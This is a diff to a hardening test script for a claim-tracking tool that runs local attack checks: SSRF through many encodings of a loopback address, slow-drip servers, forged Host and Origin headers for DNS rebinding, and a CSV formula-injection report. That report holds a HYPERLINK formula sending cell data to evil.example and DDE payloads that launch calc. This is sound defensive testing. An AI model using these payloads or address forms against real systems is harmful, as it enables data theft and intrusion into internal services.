@@ -7,24 +7,42 @@ and ``watch``, the Hypothesis properties with ``--fuzz`` examples each
 (counted from Hypothesis's own statistics), ``--kills`` SIGKILLs of
 ``analyze`` followed by a completing re-run compared with an uninterrupted
 one, and concurrent writers on one store (PostgreSQL too when
-``CLAIMLEDGER_TEST_PG`` is set). Takes about 15 minutes with the defaults.
+``CLAIMLEDGER_TEST_PG`` is set). Then the second round of attacks: requests
+to internal addresses (every address form, pages, feeds, feed entries and
+redirects, against a loopback server that counts what reaches it), formula
+cells in the CSV export, heavy pages of short paragraphs (time and peak
+memory of each run), a live ``serve`` held by a dripping server while a
+pasted report is added, its queue bound and forged ``Host``/``Origin``
+headers, ``analyze`` killed every 10-20 s, a read-only store, and ``watch``'s
+exit codes. Nothing is sent beyond this machine. Takes about 20 minutes with
+the defaults.
 """
 from __future__ import annotations
 
 import argparse
+import csv
+import http.server
 import os
 import random
 import re
+import shutil
+import signal
+import socket
 import subprocess
 import sys
 import tempfile
+import threading
 import time
+import urllib.error
+import urllib.parse
+import urllib.request
+from contextlib import contextmanager
 from pathlib import Path
 
 ROOT = Path(__file__).resolve().parent.parent
 sys.path[:0] = [str(ROOT / "tests"), str(ROOT / "tests" / "hostile")]
 
-from make_corpus import SECRET, make_corpus  # noqa: E402
+from make_corpus import GOOD_REPORT, PARAGRAPH, SECRET, make_corpus, short_paragraphs  # noqa: E402
 from test_concurrency import run_writers, split_overlapping  # noqa: E402
 from test_crash_safety import analyze, crash_cycles, export, stored_shape, write_reports  # noqa: E402
 from test_hostile import MAX_RSS_BYTES, _lines_naming, run_cli  # noqa: E402
@@ -123,6 +141,331 @@ def writers(tmp: Path) -> list[tuple[str, str]]:
     return rows
 
 
+# Second round ------------------------------------------------------------
+
+INTERNAL_PAGE = ("<html><head><title>Internal status</title></head><body><article><p>INTERNAL-MARKER: the service "
+                 "said on Monday that all 12 nodes were healthy, the operator told staff in a note.</p></article>"
+                 "</body></html>")
+#: Ways to write an address of this machine in a URL (decimal, hex, octal, short, IPv6, mapped).
+FORMS = ("127.0.0.1", "localhost", "0x7f000001", "2130706433", "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]",
+         "0.0.0.0")
+
+
+@contextmanager
+def loopback_server(routes: dict, host: str = "127.0.0.1"):
+    """A server on ``host`` answering ``routes`` (path -> (status, headers, body)); yields (port, hits)."""
+    hits: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            status, headers, body = routes.get(self.path, (404, {}, b"no"))
+            self.send_response(status)
+            for key, value in {"Content-Length": str(len(body)), **headers}.items():
+                self.send_header(key, value.replace("PORT", str(self.server.server_address[1])))
+            self.end_headers()
+            self.wfile.write(body.replace(b"PORT", str(self.server.server_address[1]).encode()))
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer((host, 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield server.server_address[1], hits
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def internal_addresses(tmp: Path) -> list[tuple[str, str]]:
+    """Pages, feeds, feed entries and redirects pointing at a loopback service, in every address form."""
+    root = tmp / "ssrf"
+    for folder in ("home", "tmp"):
+        (root / folder).mkdir(parents=True)
+    feed = ("<?xml version='1.0'?><rss version='2.0'><channel><title>Wire</title><item><title>Status</title>"
+            "<link>http://{host}:PORT/page.html</link><description>ok</description></item></channel></rss>")
+    routes = {"/page.html": (200, {"Content-Type": "text/html"}, INTERNAL_PAGE.encode()),
+              "/feed.rss": (200, {"Content-Type": "application/rss+xml"}, feed.format(host="127.0.0.1").encode())}
+    tried = refused = 0
+    with loopback_server(routes) as (port, hits):
+        for form in FORMS:
+            for path, command in (("page.html", "analyze"), ("feed.rss", "watch")):
+                url = f"http://{form}:{port}/{path}"
+                run = run_cli([command, *(["--once"] if command == "watch" else []), url, "--db", "ledger.db"], root)
+                tried += 1
+                refused += run.code == 1 and ("not a public address" in run.stderr or "not a valid" in run.stderr)
+            entry_feed = root / f"entries-{len(hits)}-{tried}.rss"  # a feed file whose entry links inside
+            entry_feed.write_text(feed.format(host=form).replace("PORT", str(port)))
+            run = run_cli(["watch", "--once", entry_feed.name, "--db", "ledger.db"], root)
+            tried += 1
+            refused += run.code == 1 and "not a public address" in run.stderr
+        redirects = _redirects(port, hits)
+        reached_before = len(hits)
+        allowed = run_cli(["analyze", f"http://127.0.0.1:{port}/page.html", "--db", "allowed.db",
+                           "--allow-private-addresses"], root)
+        open_port = run_cli(["analyze", f"http://127.0.0.1:{port}/page.html", "--db", "ledger.db"], root)
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        closed = probe.getsockname()[1]
+    closed_port = run_cli(["analyze", f"http://127.0.0.1:{closed}/page.html", "--db", "ledger.db"], root)
+    same = open_port.stderr.split(": ", 1)[-1] == closed_port.stderr.split(": ", 1)[-1]
+    leaked = (root / "ledger.db").exists() and b"INTERNAL-MARKER" in (root / "ledger.db").read_bytes()
+    return [
+        ("Requests to internal addresses (9 address forms: page, feed, feed entry; analyze and watch)",
+         f"{refused} of {tried} refused with one line; {reached_before} requests reached the internal server; "
+         f"its text in the ledger: {'YES' if leaked else 'no'}"),
+        ("Redirects from an outside server to each form of a loopback address",
+         f"{redirects} of {len(FORMS)} refused, none reached the internal server"),
+        ("The same page with --allow-private-addresses", "fetched and stored" if "analysed 1" in allowed.stdout
+         else "NOT fetched"),
+        ("Errors telling an open port from a closed one", "none (the same line for both)" if same else
+         "DIFFER: " + open_port.stderr.strip() + " / " + closed_port.stderr.strip()),
+    ]
+
+
+def _redirects(port: int, hits: list[str]) -> int:
+    """Redirects to every form of a loopback address, from a server on 127.0.0.2 that stands in for an
+    outside one (the address check lets that one address through, in this process only); a redirect
+    counts as refused when it fails and nothing reached the internal server (httpx itself rejects an
+    octal address in a Location header)."""
+    from claimledger.ingest import IngestError, web
+
+    real = web.is_public
+    web.is_public = lambda address: address == "127.0.0.2" or real(address)
+    refused = 0
+    try:
+        for form in FORMS:
+            target = f"http://{form}:{port}/page.html"
+            with loopback_server({"/go": (302, {"Location": target}, b"")}, host="127.0.0.2") as (hop, _):
+                try:
+                    web.read_url(f"http://127.0.0.2:{hop}/go")
+                except IngestError:
+                    refused += not hits
+    finally:
+        web.is_public = real
+    return refused
+
+
+def csv_formulas(tmp: Path) -> list[tuple[str, str]]:
+    """A report whose title, outlet and quotes begin with formula characters, exported as CSV."""
+    root = tmp / "csv"
+    root.mkdir()
+    (root / "formulas.txt").write_text(
+        'title: =HYPERLINK("http://evil.example/?"&A1,"Open")\noutlet: @SUM(1+1)*cmd|\' /C calc\'!A0\n\n'
+        '"+1 for the new bridge," the mayor, Ada Brenn, said on Monday.\n'
+        '"-5 degrees is no reason to close the port," harbour master Ilse Varga told reporters.\n'
+        '"=cmd|\' /C calc\'!A0 is what the hackers typed," police spokesman Tom Hale said.\n', encoding="utf-8")
+    subprocess.run([str(ROOT / ".venv" / "bin" / "claimledger"), "analyze", "formulas.txt", "--db", "l.db"], cwd=root,
+                   capture_output=True, check=True)
+    counts = {}
+    for mode, extra in (("safe", []), ("raw", ["--csv-raw-formulas"])):
+        subprocess.run([str(ROOT / ".venv" / "bin" / "claimledger"), "export", "--format", "csv", "--db", "l.db",
+                        "-o", mode, *extra], cwd=root, capture_output=True, check=True)
+        cells = [c for path in (root / mode).glob("*.csv") for row in csv.reader(open(path, newline="", encoding="utf-8"))
+                 for c in row]
+        counts[mode] = sum(c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c)) for c in cells)
+        counts[mode + "_quoted"] = sum(c[:1] == "'" and c[1:2] in ("=", "+", "-", "@", "\t", "\r") for c in cells)
+    return [("Formula cells in the CSV export (a hostile report's title, outlet and quotes)",
+             f"{counts['safe']} cells would run as formulas ({counts['safe_quoted']} neutralised with a leading '); "
+             f"--csv-raw-formulas writes {counts['raw']} raw")]
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def heavy_pages(tmp: Path) -> list[tuple[str, str]]:
+    """Pages of short paragraphs through ``analyze``: outcome, CPU time and peak memory of each run, and what
+    trafilatura alone costs on them (the growth the bounds stop)."""
+    root = tmp / "heavy"
+    for folder in ("home", "tmp"):
+        (root / folder).mkdir(parents=True)
+    rows = []
+    sizes = (("0.9 MB (19,000 paragraphs, under the element bound)", 19_000 * len(PARAGRAPH)),
+             ("1 MB", 2**20), ("2 MB", 2 * 2**20), ("20 MB", 20 * 2**20 - 4096))
+    worst = 0
+    for label, size in sizes:
+        page = root / f"page-{size}.html"
+        with open(page, "w", encoding="ascii") as f:
+            short_paragraphs(f, size)
+        started = time.monotonic()
+        run = run_cli(["analyze", page.name, "--db", "ledger.db"], root)
+        seconds = time.monotonic() - started
+        worst = max(worst, run.max_rss)
+        outcome = run.stderr.strip().split(": ", 1)[-1] if run.code else run.stdout.strip()
+        rows.append((f"HTML page of {label} of short paragraphs",
+                     f"{outcome[:120]}; {seconds:.1f} s, peak {run.max_rss / 2**20:.0f} MiB (whole analyze run)"))
+    curve = subprocess.run([sys.executable, "-c", _TRAFILATURA_CURVE], capture_output=True, text=True, cwd=ROOT)
+    rows.append(("trafilatura alone on such pages (no bounds; CPU s)", curve.stdout.strip() or curve.stderr[-200:]))
+    return rows
+
+
+_TRAFILATURA_CURVE = """
+import sys, time, io
+sys.path.insert(0, "tests/hostile")
+from make_corpus import PARAGRAPH, short_paragraphs
+import trafilatura
+out = []
+for count in (5_000, 10_000, 20_000, 40_000):
+    f = io.StringIO(); short_paragraphs(f, count * len(PARAGRAPH)); page = f.getvalue()
+    if count == 5_000:
+        trafilatura.bare_extraction(page)  # its first call sets itself up
+    started = time.process_time(); trafilatura.bare_extraction(page, with_metadata=True)
+    out.append(f"{count:,} paragraphs ({len(page) / 2**20:.2f} MB): {time.process_time() - started:.1f} s")
+print("; ".join(out))
+"""
+
+
+def _free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return probe.getsockname()[1]
+
+
+def _request(url: str, data: dict | None = None, headers: dict | None = None) -> tuple[int, str, str]:
+    """(status, final URL, body) of a GET or form POST, redirects not followed."""
+    class NoRedirect(urllib.request.HTTPRedirectHandler):
+        def redirect_request(self, *args):
+            return None
+
+    body = urllib.parse.urlencode(data).encode() if data is not None else None
+    request = urllib.request.Request(url, data=body, headers=headers or {})
+    try:
+        with urllib.request.build_opener(NoRedirect).open(request, timeout=30) as response:
+            return response.status, response.headers.get("location", ""), response.read().decode(errors="replace")
+    except urllib.error.HTTPError as exc:
+        return exc.code, exc.headers.get("location", "") or "", exc.read().decode(errors="replace")
+
+
+@contextmanager
+def dripping():
+    stop = threading.Event()
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            while not stop.is_set():
+                try:
+                    self.wfile.write(b" ")
+                    self.wfile.flush()
+                except OSError:
+                    return
+                time.sleep(2)  # 2 bytes every 4 s was the attack; a byte every 2 s here
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}/slow.html"
+    finally:
+        stop.set()
+        server.shutdown()
+        server.server_close()
+
+
+def live_serve(tmp: Path) -> list[tuple[str, str]]:
+    """A live ``claimledger serve`` on loopback: a dripping page and a paste, the queue bound, forged headers."""
+    root = tmp / "serve"
+    root.mkdir()
+    subprocess.run([str(ROOT / ".venv" / "bin" / "claimledger"), "analyze", str(ROOT / "examples"), "--db", "l.db"],
+                   cwd=root, capture_output=True, check=True)
+    port = _free_port()
+    base = f"http://127.0.0.1:{port}"
+    proc = subprocess.Popen([str(ROOT / ".venv" / "bin" / "claimledger"), "serve", "--db", "l.db", "--port", str(port),
+                             "--allow-private-addresses"], cwd=root, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    rows = []
+    try:
+        deadline = time.monotonic() + 120
+        while time.monotonic() < deadline:
+            try:
+                if _request(base + "/api/documents")[0] == 200:
+                    break
+            except OSError:
+                time.sleep(0.5)
+        forged = _request(base + "/api/claims", headers={"Host": "rebound.evil.example"})[0]
+        forged_post = _request(base + "/upload", {"text": "x"}, {"Host": "rebound.evil.example",
+                                                                 "Origin": "http://rebound.evil.example"})[0]
+        scheme = _request(base + "/upload", {"text": "x"}, {"Origin": f"https://127.0.0.1:{port}"})[0]
+        other_port = _request(base + "/upload", {"text": "x"}, {"Origin": f"http://127.0.0.1:{port + 1}"})[0]
+        rows.append(("Forged Host (DNS rebinding) against a live serve without a token",
+                     f"GET answered {forged}, form POST with a matching Origin answered {forged_post}"))
+        rows.append(("Origin with another scheme / port", f"{scheme} / {other_port}"))
+        with dripping() as slow_url:
+            started = time.monotonic()
+            slow = _request(base + "/upload", {"fetch": slow_url})[1]
+            pasted = _request(base + "/upload", {"text": GOOD_REPORT.split("\n\n", 1)[1], "title": "Pasted"})[1]
+            while "See the claims" not in _request(base + pasted)[2] and time.monotonic() - started < 300:
+                time.sleep(0.5)
+            paste_seconds = time.monotonic() - started
+            still = "fetching the page" in _request(base + slow)[2]
+            queue = [_request(base + "/upload", {"fetch": slow_url})[0] for _ in range(9)]
+            while "Failed" not in (status := _request(base + slow)[2]) and time.monotonic() - started < 300:
+                time.sleep(1)
+            cut = time.monotonic() - started
+            reason = re.search(r"Failed: ([^<]*)", status)
+        rows.append(("Page dripping a byte every 2 s, with a report pasted after it",
+                     f"paste added in {paste_seconds:.1f} s while the page was {'still' if still else 'NOT'} fetching; "
+                     f"the page cut at {cut:.0f} s ({reason.group(1).split(': ', 1)[-1] if reason else 'not cut'})"))
+        rows.append(("9 more page fetches posted while one waits (bound: 8 waiting)",
+                     f"{queue.count(303)} accepted, {queue.count(503)} answered 503 busy"))
+    finally:
+        proc.send_signal(signal.SIGINT)
+        try:
+            proc.wait(30)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+    return rows
+
+
+def periodic_kills(tmp: Path, seconds: tuple[float, float] = (10, 20), cycles: int = 6) -> list[tuple[str, str]]:
+    """``analyze`` over 200 reports killed every 10-20 s: how many are stored after each kill."""
+    folder = tmp / "periodic" / "reports"
+    write_reports(folder, 200)
+    db = tmp / "periodic" / "killed.db"
+    rng = random.Random(3)
+    counts = []
+    for _ in range(cycles):
+        analyze(folder, db, kill_after=rng.uniform(*seconds))
+        with Store.open(db, create=False) as store:
+            counts.append(store.count())
+    return [(f"analyze of 200 reports killed every {seconds[0]:.0f}-{seconds[1]:.0f} s",
+             "stored after each kill: " + ", ".join(map(str, counts)))]
+
+
+def read_only(tmp: Path) -> list[tuple[str, str]]:
+    store = tmp / "ro" / "store"
+    store.mkdir(parents=True)
+    bin_ = ROOT / ".venv" / "bin" / "claimledger"
+    subprocess.run([str(bin_), "analyze", str(ROOT / "examples"), "--db", str(store / "l.db")], capture_output=True,
+                   check=True)
+    if shutil.which("unshare") is None:
+        return [("Store on a read-only file system", "not run (no unshare)")]
+    out = tmp / "ro"
+    script = (f"mount --bind -o ro {store} {store} && {bin_} export --db {store / 'l.db'} -o {out / 'l.json'} && "
+              f"{bin_} report --db {store / 'l.db'} -o {out / 'b.html'}")
+    run = subprocess.run(["unshare", "-rm", "sh", "-c", script], capture_output=True, text=True)
+    return [("Store on a read-only file system: export and report",
+             "both work" if run.returncode == 0 else f"FAILED: {run.stderr.strip()[-200:]}")]
+
+
+def watch_codes(tmp: Path) -> list[tuple[str, str]]:
+    root = tmp / "watch"
+    for folder in ("home", "tmp"):
+        (root / folder).mkdir(parents=True)
+    missing = run_cli(["watch", "--once", "missing.rss", "--db", "l.db"], root)
+    refused = run_cli(["watch", "--once", "http://127.0.0.1:9/feed.rss", "--db", "l.db"], root)
+    return [("watch --once exit code, feed missing / refused", f"{missing.code} / {refused.code}")]
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     parser.add_argument("--fuzz", type=int, default=10_000, help="Hypothesis examples per property")
@@ -131,6 +474,8 @@ def main() -> None:
     with tempfile.TemporaryDirectory(prefix="claimledger-hardening-") as folder:
         tmp = Path(folder)
         rows = [*hostile(tmp), *kills(tmp, args.kills), *writers(tmp), *fuzz(args.fuzz)]
+        rows += [*internal_addresses(tmp), *csv_formulas(tmp), *heavy_pages(tmp), *live_serve(tmp),
+                 *periodic_kills(tmp), *read_only(tmp), *watch_codes(tmp)]
     print("| What was tried | What held |")
     print("|---|---|")
     for what, held in rows:
